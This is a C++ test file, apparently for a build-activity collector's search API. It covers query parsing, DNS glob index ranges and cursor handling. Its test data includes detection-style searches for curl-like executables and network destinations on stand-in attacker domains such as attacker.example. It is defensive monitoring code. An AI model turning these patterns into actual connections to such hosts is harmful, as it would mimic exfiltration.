      std::vector<rapidjson::Document> builds;
      for (const auto& b : bash) {
        rapidjson::Document d;
        d.CopyFrom(b["build"], d.GetAllocator());
        builds.push_back(std::move(d));
      }
      return builds;
    }());
    CHECK(std::set<int64_t>(ids.begin(), ids.end()).size() == 25);
    CHECK(std::is_sorted(ids.rbegin(), ids.rend()));
    CHECK(search("exe:/usr/bin/c?rl").size() == 1);
    CHECK(search("exe:/usr/bin/bash branch:dev", 2).size() == 6);
    CHECK(search("exe:/usr/*/cc").size() == 1);
  }
}

TEST_CASE("api: the search query parser") {
  using collector::api::parse_search;
  const uint64_t now = kT0;
  auto q = parse_search("  exe_sha256:" + std::string(64, 'A') +
                            "  dest:*.Evil.example argv:\"a \\\"b\\\" \\\\c\" "
                            "since:2h until:2026-11-27T10:00:00Z repo:acme/x ",
                        now);
  REQUIRE_MESSAGE(q.ok(), q.error().message);
  CHECK(q->exe_sha256 == std::string(64, 'a'));
  CHECK(q->dest == "*.evil.example");
  CHECK(q->argv == "a \"b\" \\c");
  CHECK(q->since_ns == now - 2 * 3600ull * 1000000000);
  CHECK(q->repository == "acme/x");
  for (const char* bad :
       {"", "   ", "since:1h", "x", ":x", "argv:", "argv:\"x", "argv:\"x\"y", "argv:a\"b", "argv:\"\\n\"",
        "exe_sha256:xyz", "dest:a dest:b", "nope:1", "argv:x since:nonsense", "argv:\"\x01\""}) {
    auto r = parse_search(bad, now);
    CHECK_MESSAGE(!r.ok(), bad);
    if (!r.ok()) CHECK(r.error().message.find('\n') == std::string::npos);
  }
  CHECK_FALSE(parse_search("argv:" + std::string(1025, 'x'), now).ok());
  CHECK_FALSE(parse_search(std::string(2049, ' ') + "argv:x", now).ok());
}

TEST_CASE("api: a dest glob's index range holds every name it matches") {
  using namespace collector::api;
  const std::vector<std::string> names = {"x.attacker.example",
                                          "attacker.example",
                                          "a.b.attacker.example",
                                          "xattacker.example",
                                          "example",
                                          "evil.example.org",
                                          "a..b",
                                          ".",
                                          "",
                                          "a.b.",
                                          "[x].example"};
  for (const char* glob :
       {"*.attacker.example", "*attacker.example", "x.attacker.example", "*", "*example", "a.*.attacker.example",
        "?.attacker.exampl?", "[ax].attacker.example", "a[.]b.attacker.example", "*.", "a.b.", "[x].example"}) {
    const ValueRange r = dns_range(glob);
    for (const auto& name : names) {
      if (!glob_matches(glob, name)) continue;
      const std::string v = collector::store::dns_value(name);
      CHECK_MESSAGE(v >= r.lo, glob, " ", name);
      CHECK_MESSAGE((r.hi.empty() || v < r.hi), glob, " ", name);
    }
  }
  CHECK(dns_range("*.attacker.example").lo == "example.attacker.");
  CHECK(dns_range("*example").lo.empty());
  CHECK(collector::store::dns_value("A.b.C") == "c.b.a");
  CHECK(collector::store::dns_name_of(collector::store::dns_value("a.b.")) == "a.b.");
  const ValueRange e = exe_range("/usr/bin/*");
  CHECK(e.lo == "/usr/bin/");
  CHECK(e.hi == "/usr/bin0");
  CHECK(collector::api::parse_cursor(collector::api::make_cursor({5, 0}), 2).value() == std::vector<int64_t>{5, 0});
  CHECK_FALSE(collector::api::parse_cursor("5", 2).ok());
  CHECK_FALSE(collector::api::parse_cursor("5.", 2).ok());
  CHECK_FALSE(collector::api::parse_cursor("-1", 1).ok());
  CHECK(collector::api::parse_text_cursor(collector::api::make_text_cursor("agent\x01-x")).value() == "agent\x01-x");
  CHECK_FALSE(collector::api::parse_text_cursor("0").ok());
}
